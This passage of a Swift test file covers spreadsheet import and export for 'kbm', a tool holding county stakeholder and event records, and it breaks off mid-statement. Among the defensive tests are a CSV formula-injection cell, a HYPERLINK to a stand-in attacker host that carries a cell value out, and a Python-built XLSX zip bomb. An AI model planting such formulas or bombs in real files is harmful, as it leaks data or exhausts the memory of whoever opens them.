import Foundation
import KBMTestSupport
import XCTest

/// Issue 16: `kbm import <file.csv|file.xlsx>` and `kbm export <file.csv|file.xlsx>`, end to end,
/// with files written and read by independent programs (openpyxl, Python's csv, LibreOffice).
final class SpreadsheetTests: RegionTestCase {
    private var region: RegionFixture!
    private var kbm: KBMRunner!
    private var dir = ""

    override func setUp() {
        super.setUp()
        region = self.region()
        kbm = region.join("lk-augsburg")
        dir = tempDir("kbm-sheets")
    }

    @discardableResult
    private func python(_ script: String, _ args: [String] = [], file: StaticString = #filePath, line: UInt = #line) -> String {
        let r = KBMRunner.exec("/usr/bin/env", ["python3", "-c", script] + args, cwd: dir)
        XCTAssertEqual(r.status, 0, "python failed: \(r.stderr)", file: file, line: line)
        return r.stdout
    }

    private func write(_ name: String, _ bytes: [UInt8]) throws -> String {
        let path = dir + "/" + name
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        return path
    }

    private func records(kind: String? = nil) -> [[String: Any]] {
        kbm.listJSON().filter { kind == nil || $0["kind"] as? String == kind }
    }

    private func record(named name: String) -> [String: Any]? {
        records().first { ($0["name"] as? String ?? $0["title"] as? String) == name }
    }

    /// What must stay the same when an import fails: the store's records and the workspace's status.
    private func snapshot() -> String {
        kbm.ok("list", "--json").stdout + kbm.ok("status", "--json").stdout
    }

    private func windows1252(_ text: String) -> [UInt8] {
        text.unicodeScalars.map { s -> UInt8 in
            switch s { case "„": return 0x84; case "“": return 0x93; case "€": return 0x80; default: return UInt8(s.value) }
        }
    }

    // MARK: reading files of other programs

    func testImportsCSVFromGermanExcelInWindows1252() throws {
        let csv = "Name;Art;Organisation;Funktion;Haltung;Einfluss;Schlüsselperson;Gremien;E-Mail;Letzter Kontakt;Notizen\r\n"
            + "Dr. Jörg Weiß;Person;Staatliches Schulamt im Landkreis Augsburg;Schulamtsdirektor;Fürsprecher;hoch;ja;Bildungsbeirat;j.weiss@schulamt.example;24.04.2026;\"Sagt: „Mehr Praktika“\r\nzweite Zeile\"\r\n"
            + "IHK Schwaben;Organisation;;;kritisch;mittel;nein;\"Steuerungsgremium;Bildungsbeirat\";;2026-01-15;\r\n"
        let path = try write("akteure.csv", windows1252(csv))
        let r = kbm.run(["import", path, "--kind", "Akteur"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(r.stdout, "Imported \(path): 2 added, 0 changed, 0 unchanged, 0 skipped as likely duplicates.\n")
        let joerg = try XCTUnwrap(record(named: "Dr. Jörg Weiß"))
        XCTAssertEqual(joerg["type"] as? String, "person")
        XCTAssertEqual(joerg["stance"] as? String, "supporter")
        XCTAssertEqual(joerg["influence"] as? String, "high")
        XCTAssertEqual(joerg["key_person"] as? Bool, true)
        XCTAssertEqual(joerg["committees"] as? [String], ["Bildungsbeirat"])
        XCTAssertEqual(joerg["email"] as? String, "j.weiss@schulamt.example")
        XCTAssertEqual(joerg["last_contact"] as? String, "2026-04-24")
        XCTAssertEqual(joerg["notes"] as? String, "Sagt: „Mehr Praktika“\nzweite Zeile")
        let ihk = try XCTUnwrap(record(named: "IHK Schwaben"))
        XCTAssertEqual(ihk["stance"] as? String, "critical")
        XCTAssertEqual(ihk["committees"] as? [String], ["Bildungsbeirat", "Steuerungsgremium"])
        XCTAssertEqual(ihk["key_person"] as? Bool, false)
        // Personal fields stay in the local store, as with kbm add.
        kbm.sync()
        let id = try XCTUnwrap(joerg["id"] as? String)
        let file = KBMRunner.sh("git --git-dir=\(region.remote) show main:" + RegionFixture.recordPath(county: "lk-augsburg", kind: "stakeholder", id: id)).stdout
        XCTAssertTrue(file.contains("name: Dr. Jörg Weiß"), file)
        XCTAssertFalse(file.contains("schulamt.example"), file)
        XCTAssertFalse(file.contains("Praktika"), file)
        XCTAssertFalse(file.contains("supporter"), file)
    }

    func testImportsXLSXFromOpenpyxlWithDateCellsFormulasAndLineBreaks() throws {
        let path = dir + "/veranstaltungen.xlsx"
        python("""
            import sys, datetime, openpyxl
            wb = openpyxl.Workbook()
            ws = wb.active
            ws.title = 'Veranstaltungen'
            ws.append(['Titel', 'Art', 'Beginn', 'Ende', 'Ort', 'Ziele', 'Zielgruppen', 'Teilnehmende', 'Schlagwörter'])
            ws.append(['Bildungskonferenz 2026', 'Bildungskonferenz', datetime.datetime(2026, 3, 14), '15.03.2026', 'Landratsamt Augsburg',
                       'Netzwerk stärken\\nAngebote sichtbar machen', 'Schulen; Kitas', '=40+45', '🎓'])
            ws.append([])
            ws.append(['Ausbildungsmesse', 'Ausbildungsmesse', datetime.date(2026, 10, 2), None, None, None, None, '1.234', None])
            wb.save(sys.argv[1])
            """, [path])
        // openpyxl writes no cached value for its formula: LibreOffice computes and stores it.
        guard let soffice = Self.soffice else { throw XCTSkip("LibreOffice (soffice) is not installed: run scripts/setup-tests.sh") }
        let converted = dir + "/lo"
        try FileManager.default.createDirectory(atPath: converted, withIntermediateDirectories: true)
        let profile = tempDir("kbm-lo")
        let lo = KBMRunner.exec(soffice, ["-env:UserInstallation=file://\(profile)", "--headless", "--norestore", "--convert-to", "xlsx", "--outdir", converted, path], cwd: dir)
        XCTAssertEqual(lo.status, 0, lo.stderr)
        let r = kbm.run(["import", converted + "/veranstaltungen.xlsx"])
        XCTAssertEqual(r.status, 0, r.stderr)
        let conference = try XCTUnwrap(record(named: "Bildungskonferenz 2026"))
        XCTAssertEqual(conference["kind"] as? String, "event")
        XCTAssertEqual(conference["type"] as? String, "bildungskonferenz")
        XCTAssertEqual(conference["start"] as? String, "2026-03-14")
        XCTAssertEqual(conference["end"] as? String, "2026-03-15")
        XCTAssertEqual(conference["goals"] as? [String], ["Netzwerk stärken", "Angebote sichtbar machen"])
        XCTAssertEqual(conference["target_groups"] as? [String], ["Kitas", "Schulen"])
        XCTAssertEqual(conference["participants"] as? Int, 85, "the formula's cached value")
        XCTAssertEqual(conference["tags"] as? [String], ["🎓"])
        let fair = try XCTUnwrap(record(named: "Ausbildungsmesse"))
        XCTAssertEqual(fair["start"] as? String, "2026-10-02")
        XCTAssertEqual(fair["participants"] as? Int, 1234)
        // openpyxl's own file (inline strings, no cached formula value): the formula cell is refused.
        let direct = kbm.run(["import", path, "--dry-run"])
        XCTAssertEqual(direct.status, 2)
        XCTAssertTrue(direct.stderr.contains("\(path), sheet \"Veranstaltungen\", row 2, column \"Teilnehmende\": \"=40+45\": expected a whole number ≥ 0"), direct.stderr)
    }

    static var soffice: String? {
        ["/usr/bin/soffice", "/usr/local/bin/soffice", "/usr/lib/libreoffice/program/soffice"].first { FileManager.default.isExecutableFile(atPath: $0) }
    }

    /// The example spreadsheet of sample-repo/ imports as the README says, and once only.
    func testTheSampleSpreadsheetImports() throws {
        let sample = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("sample-repo/akteure-beispiel.csv").path
        let r = kbm.ok("import", sample)
        XCTAssertEqual(r.stdout, "Imported \(sample): 8 added, 0 changed, 0 unchanged, 0 skipped as likely duplicates.\n")
        let school = try XCTUnwrap(record(named: "Staatliches Schulamt im Landkreis Günzburg"))
        XCTAssertEqual(school["type"] as? String, "office")
        XCTAssertEqual(school["committees"] as? [String], ["Bildungsbeirat", "Steuerungsgruppe Übergang Schule–Beruf"])
        XCTAssertEqual(school["topics"] as? [String], ["Ganztag", "Übergang Schule–Beruf"])
        XCTAssertEqual(record(named: "Bernd Hörmann")?["last_contact"] as? String, "2026-02-05")
        XCTAssertTrue(kbm.ok("import", sample).stdout.hasPrefix("Imported \(sample): 0 added, 0 changed, 8 unchanged"))
    }

    // MARK: all or nothing

    func testBadInputIsRefusedWithItsPlaceAndNothingIsWritten() throws {
        kbm.ok("add", "stakeholder", "name=Vorhanden", "type=organisation")
        kbm.sync()
        let before = snapshot()
        var rows = ["Name;Art;Haltung;Letzter Kontakt"]
        for i in 2...16 { rows.append("Person \(i);Person;neutral;01.02.2026") }
        rows.append("Person 17;Person;Freund;01.02.2026")
        rows.append("Person 18;Person;neutral;31.04.2026")
        let path = try write("fehler.csv", Array((rows.joined(separator: "\r\n") + "\r\n").utf8))
        let r = kbm.run(["import", path, "--kind", "stakeholder"])
        XCTAssertEqual(r.status, 2, r.stdout)
        XCTAssertTrue(r.stderr.hasPrefix("kbm: Nothing was imported from \(path): 2 problems:\n"), r.stderr)
        XCTAssertTrue(r.stderr.contains("  \(path), row 17, column \"Haltung\": \"Freund\": expected one of Fürsprecher, neutral, Kritiker, unbekannt\n"), r.stderr)
        XCTAssertTrue(r.stderr.contains("  \(path), row 18, column \"Letzter Kontakt\": \"31.04.2026\": not a date, April has 30 days\n"), r.stderr)
        XCTAssertEqual(snapshot(), before)

        let unknown = try write("spalte.csv", Array("Name;Haltnug\r\nA;neutral\r\n".utf8))
        let u = kbm.run(["import", unknown, "--kind", "Akteur"])
        XCTAssertEqual(u.status, 2)
        XCTAssertTrue(u.stderr.contains("\(unknown), header row 1, column B: \"Haltnug\" is not a column kbm knows for a stakeholder (Akteur); did you mean \"Haltung\"?"), u.stderr)
        XCTAssertTrue(u.stderr.contains("--ignore-column"), u.stderr)
        XCTAssertEqual(kbm.run(["import", unknown, "--kind", "Akteur", "--ignore-column", "haltnug"]).status, 0)
        let kept = snapshot()

        // A cell whose canonical record file would pass the size limit (control characters in a
        // one-line field are written escaped, four bytes each).
        let huge = try write("riesig.csv", Array(("Name;Funktion\r\nGroß;\"" + String(repeating: "\u{1}", count: 300_000) + "\"\r\n").utf8))
        let h = kbm.run(["import", huge, "--kind", "stakeholder"])
        XCTAssertEqual(h.status, 2)
        XCTAssertTrue(h.stderr.contains("\(huge), row 2: record "), h.stderr)
        XCTAssertTrue(h.stderr.contains("a record file may hold at most 1 MiB"), h.stderr)
        XCTAssertEqual(snapshot(), kept)

        let truncated = dir + "/kaputt.xlsx"
        kbm.ok("export", dir + "/ganz.xlsx")
        let whole = try Data(contentsOf: URL(fileURLWithPath: dir + "/ganz.xlsx"))
        try whole.prefix(whole.count - 200).write(to: URL(fileURLWithPath: truncated))
        let t = kbm.run(["import", truncated])
        XCTAssertEqual(t.status, 2)
        XCTAssertTrue(t.stderr.hasPrefix("kbm: \(truncated): is not an .xlsx workbook: the file is not a zip archive"), t.stderr)
        XCTAssertTrue(t.stderr.contains("Nothing was imported."), t.stderr)

        // A zip bomb: 600 MB of spaces in a sheet, a few hundred KB packed.
        let bomb = dir + "/bombe.xlsx"
        python("""
            import sys, zipfile
            wb = zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED, compresslevel=1)
            wb.writestr('xl/workbook.xml', '<workbook xmlns:r="r"><sheets><sheet name="Akteur" sheetId="1" r:id="rId1"/></sheets></workbook>')
            wb.writestr('xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
            with wb.open('xl/worksheets/sheet1.xml', 'w', force_zip64=True) as f:
                f.write(b'<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>Name</t></is></c></row><row r="2"><c t="inlineStr"><is><t>Bombe</t></is></c></row></sheetData>')
                chunk = b' ' * (1 << 22)
                for _ in range(150):
                    f.write(chunk)
                f.write(b'</worksheet>')
            wb.close()
            """, [bomb])
        let b = KBMRunner.exec("/usr/bin/time", ["-f", "maxrss=%M", KBMRunner.binary, "import", bomb], cwd: kbm.cwd)
        XCTAssertEqual(b.status, 2, b.stderr)
        XCTAssertTrue(b.stderr.contains("kbm: \(bomb): refused: its part xl/worksheets/sheet1.xml unpacks to more than 512 MB"), b.stderr)
        if let rss = b.stderr.components(separatedBy: "maxrss=").last.flatMap({ Int($0.trimmingCharacters(in: .whitespacesAndNewlines)) }) {
            XCTAssertLessThan(rss, 200_000, "peak memory (KB) while refusing the bomb")
        }
        XCTAssertEqual(snapshot(), kept)
    }

    func testDuplicatesAreSkippedAndTheSameFileTwiceChangesNothing() throws {
        let existing = kbm.ok("add", "stakeholder", "name=Agentur für Arbeit Augsburg", "type=organisation", "sector=economy").lastLine
        let csv = "Name;Art;Bereich\r\nAgentur fuer Arbeit Augsburg;Organisation;Wirtschaft\r\nVolkshochschule Augsburger Land;Organisation;Erwachsenenbildung\r\nVolkshochschule Augsburger Land;Organisation;Erwachsenenbildung\r\nKreisjugendring Augsburg-Land;Organisation;Jugendarbeit\r\n"
        let path = try write("liste.csv", Array(csv.utf8))
        let r = kbm.run(["import", path, "--kind", "stakeholder"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(r.stdout.hasPrefix("Imported \(path): 2 added, 0 changed, 0 unchanged, 2 skipped as likely duplicates.\n"), r.stdout)
        XCTAssertTrue(r.stdout.contains("  row 2: \"Agentur fuer Arbeit Augsburg\" looks like record \(existing) \"Agentur für Arbeit Augsburg\""), r.stdout)
        XCTAssertTrue(r.stdout.contains("  row 4: \"Volkshochschule Augsburger Land\" looks like row 3 \"Volkshochschule Augsburger Land\""), r.stdout)
        XCTAssertEqual(records(kind: "stakeholder").count, 3)
        let before = snapshot()
        let again = kbm.ok("import", path, "--kind", "stakeholder")
        // Rows added the first time are now equal to their records; the skipped row is skipped again.
        XCTAssertTrue(again.stdout.hasPrefix("Imported \(path): 0 added, 0 changed, 3 unchanged, 1 skipped as likely duplicate.\n"), again.stdout)
        XCTAssertEqual(snapshot(), before, "the same file twice changes nothing")
        let json = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(kbm.ok("import", path, "--kind", "stakeholder", "--json").stdout.utf8)) as? [String: Any])
        XCTAssertEqual((json["duplicates"] as? [Any])?.count, 1)
        XCTAssertEqual((json["added"] as? [Any])?.count, 0)
        let forced = kbm.ok("import", path, "--kind", "stakeholder", "--allow-duplicates")
        XCTAssertTrue(forced.stdout.hasPrefix("Imported \(path): 1 added, 0 changed, 3 unchanged, 0 skipped"), forced.stdout)
        XCTAssertEqual(records(kind: "stakeholder").count, 4)

        // The same body in another county is not a duplicate: each county keeps its own record.
        let other = region.join("stadt-kempten")
        other.ok("add", "stakeholder", "name=Handwerkskammer für Schwaben", "type=organisation")
        other.sync()
        kbm.sync()
        let hwk = try write("hwk.csv", Array("Name;Art\r\nHandwerkskammer für Schwaben;Organisation\r\n".utf8))
        XCTAssertTrue(kbm.ok("import", hwk, "--kind", "stakeholder").stdout.hasPrefix("Imported \(hwk): 1 added, 0 changed, 0 unchanged, 0 skipped"))
    }

    func testDryRunAndUpdatesByIDAndOwnership() throws {
        let other = region.join("stadt-kempten")
        let theirs = other.ok("add", "stakeholder", "name=IHK Schwaben", "type=organisation").lastLine
        other.sync()
        kbm.sync()
        let mine = kbm.ok("add", "stakeholder", "name=Jugendamt Augsburg", "type=office", "stance=neutral", "email=ja@lra.example").lastLine
        let path = try write("update.csv", Array("ID;Haltung;Kind\r\n\(mine);Fürsprecher;stakeholder\r\n;neutral;Akteur\r\n".utf8))
        // A new row needs its name.
        let missing = kbm.run(["import", path, "--ignore-column", "Kind", "--kind", "stakeholder"])
        XCTAssertEqual(missing.status, 2)
        XCTAssertTrue(missing.stderr.contains("\(path), row 3: is empty, but a stakeholder needs its Name (add a column \"Name\")"), missing.stderr)
        let fine = try write("update2.csv", Array("ID;Haltung;kind\r\n\(mine);Fürsprecher;stakeholder\r\n".utf8))
        let before = snapshot()
        let dry = kbm.ok("import", fine, "--dry-run")
        XCTAssertEqual(dry.stdout, "Dry run of \(fine), nothing written: would be 0 added, 1 changed, 0 unchanged, 0 skipped as likely duplicates.\n  change  row 2: \(mine) \"Jugendamt Augsburg\": Haltung\n")
        XCTAssertEqual(snapshot(), before)
        kbm.ok("import", fine)
        let json = kbm.json(mine)
        XCTAssertEqual(json["stance"] as? String, "supporter")
        XCTAssertEqual(json["email"] as? String, "ja@lra.example", "columns not in the file stay")
        // Another county's record is refused, as with kbm edit.
        let foreign = try write("fremd.csv", Array("ID;Name\r\n\(theirs);IHK Schwaben (neu)\r\n".utf8))
        let refused = kbm.run(["import", foreign, "--kind", "stakeholder"])
        XCTAssertEqual(refused.status, 2)
        XCTAssertTrue(refused.stderr.contains("\(foreign), row 2: Record \(theirs) belongs to stadt-kempten; this workspace is lk-augsburg."), refused.stderr)
        let elsewhere = try write("anderswo.csv", Array("Name;Landkreis\r\nNeu in Kempten;stadt-kempten\r\n".utf8))
        let other2 = kbm.run(["import", elsewhere, "--kind", "stakeholder"])
        XCTAssertEqual(other2.status, 2)
        XCTAssertTrue(other2.stderr.contains("\(elsewhere), row 2, column \"Landkreis\": a new record of stadt-kempten; this workspace is lk-augsburg and adds records only for its own county"), other2.stderr)
    }

    func testSheetOptionAndKindColumn() throws {
        let path = dir + "/mappe.xlsx"
        python("""
            import sys, openpyxl
            wb = openpyxl.Workbook()
            ws = wb.active
            ws.title = 'Übersicht'
            ws.append(['irgendwas'])
            ws2 = wb.create_sheet('Liste')
            ws2.append(['kind', 'Titel', 'Name', 'Thema'])
            ws2.append(['Praxistipp', 'Kreistag früh einbinden', None, 'Politische Spitze gewinnen'])
            ws2.append(['Akteur', None, 'Landrat (Büro)', None])
            wb.save(sys.argv[1])
            """, [path])
        let first = kbm.run(["import", path])
        XCTAssertEqual(first.status, 2)
        XCTAssertTrue(first.stderr.contains("\(path), sheet \"Übersicht\": which kind of records does it hold?"), first.stderr)
        let missing = kbm.run(["import", path, "--sheet", "Tabelle9"])
        XCTAssertEqual(missing.status, 2)
        XCTAssertTrue(missing.stderr.contains("has no sheet named \"Tabelle9\"; its sheets: \"Übersicht\", \"Liste\""), missing.stderr)
        // A row's kind decides which headers count; another kind's columns stay empty in its rows.
        let r = kbm.run(["import", path, "--sheet", "liste"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(records(kind: "tip").first?["theme"] as? String, "political_leadership")
        XCTAssertEqual(records(kind: "stakeholder").first?["name"] as? String, "Landrat (Büro)")
        let wrong = dir + "/falsch.xlsx"
        python("""
            import sys, openpyxl
            wb = openpyxl.Workbook()
            ws = wb.active
            ws.append(['kind', 'Titel', 'Name'])
            ws.append(['tip', 'Noch ein Tipp', 'Hans Maier'])
            wb.save(sys.argv[1])
            """, [wrong])
        let w = kbm.run(["import", wrong])
        XCTAssertEqual(w.status, 2)
        XCTAssertTrue(w.stderr.contains("\(wrong), sheet \"Sheet\", row 2, column \"Name\": \"Hans Maier\": a tip (Praxistipp) has no such field; leave this cell empty in its rows"), w.stderr)
    }

    // MARK: export, read back by independent programs

    private func seed() -> (org: String, person: String, event: String) {
        let org = kbm.ok("add", "stakeholder", "name=Volkshochschule Augsburger Land e.V.", "type=organisation", "sector=adult_ed",
                         "stance=supporter", "influence=medium", "key_person=true", "committees=Bildungsbeirat,Steuerungsgremium",
                         "topics=Grundbildung", "notes=Ansprechpartnerin wechselt 2027").lastLine
        let person = kbm.ok("add", "stakeholder", "name=Jörg „Jo“ Weiß-Öztürk", "type=person", "role=Schulleiter; Stellvertretung", "stance=critical",
                            "email=j.w@schule.example", "phone=0821 123456", "last_contact=2026-04-24", "notes=Zeile 1\nZeile 2 👍").lastLine
        let event = kbm.ok("add", "event", "title=Bildungskonferenz 2026", "type=bildungskonferenz", "start=2026-03-14", "end=2026-03-15",
                           "participants=85", "goals=Netzwerk stärken,Angebote sichtbar machen", "target_groups=Schulen,Kitas").lastLine
        return (org, person, event)
    }

    func testExportCSVReadByPythonsCSVModule() throws {
        let (org, person, _) = seed()
        let several = kbm.run(["export", dir + "/alle.csv"])
        XCTAssertEqual(several.status, 2)
        XCTAssertTrue(several.stderr.contains("A CSV file holds one kind of record"), several.stderr)
        let path = dir + "/akteure.csv"
        let r = kbm.ok("export", path, "--kind", "Akteur")
        XCTAssertEqual(r.stdout, "Exported 2 records to \(path) (2 stakeholder).\n")
        XCTAssertEqual(r.stderr, "")
        let bytes = try Data(contentsOf: URL(fileURLWithPath: path))
        XCTAssertTrue(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        XCTAssertTrue(String(decoding: bytes, as: UTF8.self).contains("\r\n"))
        let json = python("""
            import csv, json, sys
            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
            """, [path])
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: String]])
        XCTAssertEqual(rows.count, 2)
        let header = try XCTUnwrap(String(decoding: bytes.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n").first)
        XCTAssertEqual(header, "ID;Landkreis;Name;Art;Organisation;Funktion;Bereich;Gremien;Haltung;Einfluss;Schlüsselperson;Themen;Schlagwörter;Mitverantwortliche Landkreise")
        let p = try XCTUnwrap(rows.first { $0["ID"] == person })
        XCTAssertEqual(p, ["ID": person, "Landkreis": "lk-augsburg", "Name": "Jörg „Jo“ Weiß-Öztürk", "Art": "Person", "Organisation": "",
                           "Funktion": "Schulleiter; Stellvertretung", "Bereich": "", "Gremien": "", "Haltung": "", "Einfluss": "",
                           "Schlüsselperson": "", "Themen": "", "Schlagwörter": "", "Mitverantwortliche Landkreise": ""], "a person's assessment is personal: left out")
        let o = try XCTUnwrap(rows.first { $0["ID"] == org })
        XCTAssertEqual(o["Haltung"], "Fürsprecher")
        XCTAssertEqual(o["Einfluss"], "mittel")
        XCTAssertEqual(o["Schlüsselperson"], "ja")
        XCTAssertEqual(o["Bereich"], "Erwachsenenbildung")
        XCTAssertEqual(o["Gremien"], "Bildungsbeirat\nSteuerungsgremium")

        // --where and --county choose the rows, as for kbm list.
        let bodies = dir + "/koerperschaften.csv"
        XCTAssertEqual(kbm.ok("export", bodies, "--kind", "stakeholder", "--where", "Art=Organisation", "--county", "lk-augsburg").stdout,
                       "Exported 1 record to \(bodies) (1 stakeholder).\n")
        XCTAssertEqual(kbm.run(["export", dir + "/leer.csv", "--kind", "stakeholder", "--county", "stadt-kempten"]).status, 0, "an empty list with its headers")
        XCTAssertEqual(try String(contentsOfFile: dir + "/leer.csv", encoding: .utf8).components(separatedBy: "\r\n").filter { !$0.isEmpty }.count, 1)

        // Imported back without the personal columns: their empty cells leave the personal values alone.
        let unchanged = snapshot()
        XCTAssertTrue(kbm.ok("import", path).stdout.hasPrefix("Imported \(path): 0 added, 0 changed, 2 unchanged"))
        XCTAssertEqual(snapshot(), unchanged)
        XCTAssertEqual(kbm.json(person)["stance"] as? String, "critical")

        let local = kbm.ok("export", dir + "/mit.csv", "--kind", "stakeholder", "--include-local")
        XCTAssertTrue(local.stderr.contains("holds personal data"), local.stderr)
        let withLocal = python("""
            import csv, json, sys
            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
            """, [dir + "/mit.csv"])
        let lp = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(withLocal.utf8)) as? [[String: String]])?.first { $0["ID"] == person })
        XCTAssertEqual(lp["E-Mail"], "j.w@schule.example")
        XCTAssertEqual(lp["Telefon"], "0821 123456")
        XCTAssertEqual(lp["Letzter Kontakt"], "24.04.2026")
        XCTAssertEqual(lp["Notizen"], "Zeile 1\nZeile 2 👍")
        XCTAssertEqual(lp["Haltung"], "Kritiker")
        // Imported back: nothing changes.
        let before = snapshot()
        let back = kbm.ok("import", dir + "/mit.csv", "--kind", "stakeholder")
        XCTAssertTrue(back.stdout.hasPrefix("Imported \(dir)/mit.csv: 0 added, 0 changed, 2 unchanged"), back.stdout)
        XCTAssertEqual(snapshot(), before)
    }

    /// Text from other offices never runs as a formula when Excel opens kbm's CSV; the apostrophe
    /// that prevents it is taken off again on import.
    /// An event with a time of day goes out as "24.04.2026 09:30" and comes back unchanged; a plain
    /// date stays a date cell.
    func testEventTimesOfDayRoundTripThroughCSV() throws {
        let timed = kbm.ok("add", "veranstaltung", "Titel=Fachtag Übergang", "Beginn=24.04.2026 09:30", "Ende=24.04.2026 16:00").lastLine
        let allDay = kbm.ok("add", "veranstaltung", "Titel=Ausbildungsmesse", "Beginn=14.03.2026").lastLine
        let path = dir + "/veranstaltungen.csv"
        kbm.ok("export", path, "--kind", "event")
        let json = python("""
            import csv, json, sys
            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
            """, [path])
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: String]])
        let byID = Dictionary(uniqueKeysWithValues: rows.map { ($0["ID"] ?? "", $0) })
        XCTAssertEqual(byID[timed]?["Beginn"], "24.04.2026 09:30")
        XCTAssertEqual(byID[timed]?["Ende"], "24.04.2026 16:00")
        XCTAssertEqual(byID[allDay]?["Beginn"], "14.03.2026")
        let before = kbm.ok("show", timed, "--file").stdout
        XCTAssertTrue(kbm.ok("import", path).stdout.contains("0 added, 0 changed, 2 unchanged"))
        XCTAssertEqual(kbm.ok("show", timed, "--file").stdout, before)
        XCTAssertEqual(kbm.json(timed)["start"] as? String, "2026-04-24T09:30")
    }

    func testCSVCellsThatLookLikeFormulasAreDefused() throws {
        let formula = "=HYPERLINK(\"http://angreifer.example/?\"&A2;\"Klick\")"
        let id = kbm.ok("add", "stakeholder", "name=Formelverein", "type=organisation", "role=\(formula)", "topics=-Punkt eins,+plus,@at,-3").lastLine
        let path = dir + "/akteure.csv"
        kbm.ok("export", path)
        let json = python("""
            import csv, json, sys
            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
            """, [path])
        let row = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: String]])?.first)
        XCTAssertEqual(row["Funktion"], "'" + formula)
        XCTAssertEqual(row["Themen"], "'+plus\n-3\n-Punkt eins\n@at", "only the cell's first character matters")
        let before = kbm.ok("show", id, "--file").stdout
        XCTAssertTrue(kbm.ok("import", path).stdout.hasPrefix("Imported \(path): 0 added, 0 changed, 1 unchanged"))
        XCTAssertEqual(kbm.ok("show", id, "--file").stdout, before)
        let typed = try write("neu.csv", Array("ID;Funktion\r\n\(id);'=1+1\r\n".utf8))
        kbm.ok("import", typed, "--kind", "stakeholder")
        XCTAssertEqual(kbm.json(id)["role"] as? String, "=1+1")
    }

    func testExportFolderLeavesOutPersonalFields() throws {
        let (_, person, _) = seed()
        let plain = dir + "/ordner"
        let r = kbm.ok("export", plain)
        XCTAssertEqual(r.stderr, "")
        let file = try String(contentsOfFile: plain + "/" + RegionFixture.recordPath(county: "lk-augsburg", kind: "stakeholder", id: person), encoding: .utf8)
        XCTAssertFalse(file.contains("schule.example"), file)
        XCTAssertFalse(file.contains("Zeile 2"), file)
        let full = dir + "/voll"
        XCTAssertTrue(kbm.ok("export", full, "--include-local").stderr.contains("holds personal data"))
        let fullFile = try String(contentsOfFile: full + "/" + RegionFixture.recordPath(county: "lk-augsburg", kind: "stakeholder", id: person), encoding: .utf8)
        XCTAssertTrue(fullFile.contains("j.w@schule.example"), fullFile)
    }

    /// Export to XLSX, change cells with openpyxl, import: exactly the changed fields change.
    func testXLSXRoundTripChangesExactlyTheChangedCells() throws {
        let (org, person, event) = seed()
        let path = dir + "/export.xlsx"
        let r = kbm.ok("export", path, "--include-local")
        XCTAssertTrue(r.stdout.hasPrefix("Exported 3 records to \(path) (2 stakeholder, 1 event)."), r.stdout)
        let read = python("""
            import sys, json, openpyxl
            wb = openpyxl.load_workbook(sys.argv[1])
            out = {}
            for ws in wb.worksheets:
                out[ws.title] = {'freeze': ws.freeze_panes, 'filter': ws.auto_filter.ref, 'bold': ws['A1'].font.b,
                    'rows': [[c.isoformat()[:10] if hasattr(c, 'isoformat') else c for c in r] for r in ws.iter_rows(values_only=True)]}
            print(json.dumps(out))
            """, [path])
        let sheets = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(read.utf8)) as? [String: [String: Any]])
        XCTAssertEqual(Set(sheets.keys), ["Akteur", "Veranstaltung"])
        let ev = try XCTUnwrap(sheets["Veranstaltung"])
        XCTAssertEqual(ev["freeze"] as? String, "A2")
        XCTAssertEqual(ev["bold"] as? Bool, true)
        let evRows = try XCTUnwrap(ev["rows"] as? [[Any]])
        let evHeader = evRows[0].map { $0 as? String ?? "" }
        XCTAssertEqual(Array(evHeader.prefix(9)), ["ID", "Landkreis", "Titel", "Art", "Beginn", "Ende", "Ort", "Ziele", "Zielgruppen"])
        func value(_ name: String) -> Any? { evRows[1][evHeader.firstIndex(of: name) ?? 0] }
        XCTAssertEqual(value("ID") as? String, event)
        XCTAssertEqual(value("Art") as? String, "Bildungskonferenz")
        XCTAssertEqual(value("Beginn") as? String, "2026-03-14", "a real date cell")
        XCTAssertEqual(value("Teilnehmende") as? Int, 85)
        XCTAssertEqual(value("Ziele") as? String, "Netzwerk stärken\nAngebote sichtbar machen")
        XCTAssertEqual(value("Zielgruppen") as? String, "Kitas\nSchulen")
        let akRows = try XCTUnwrap(sheets["Akteur"]?["rows"] as? [[Any]])
        let akHeader = akRows[0].map { $0 as? String ?? "" }
        let personRow = try XCTUnwrap(akRows.first { $0.first as? String == person })
        XCTAssertEqual(personRow[akHeader.firstIndex(of: "Notizen") ?? 0] as? String, "Zeile 1\nZeile 2 👍")
        XCTAssertEqual(personRow[akHeader.firstIndex(of: "Name") ?? 0] as? String, "Jörg „Jo“ Weiß-Öztürk")
        XCTAssertEqual(personRow[akHeader.firstIndex(of: "Letzter Kontakt") ?? 0] as? String, "2026-04-24")

        // Every value of the person's row, as openpyxl reads it (nil: an empty cell).
        func cells(_ row: [Any]) -> [String?] { row.map { ($0 is NSNull) ? nil : "\($0)" } }
        XCTAssertEqual(akHeader, ["ID", "Landkreis", "Name", "Art", "Organisation", "Funktion", "Bereich", "Gremien", "Haltung", "Einfluss",
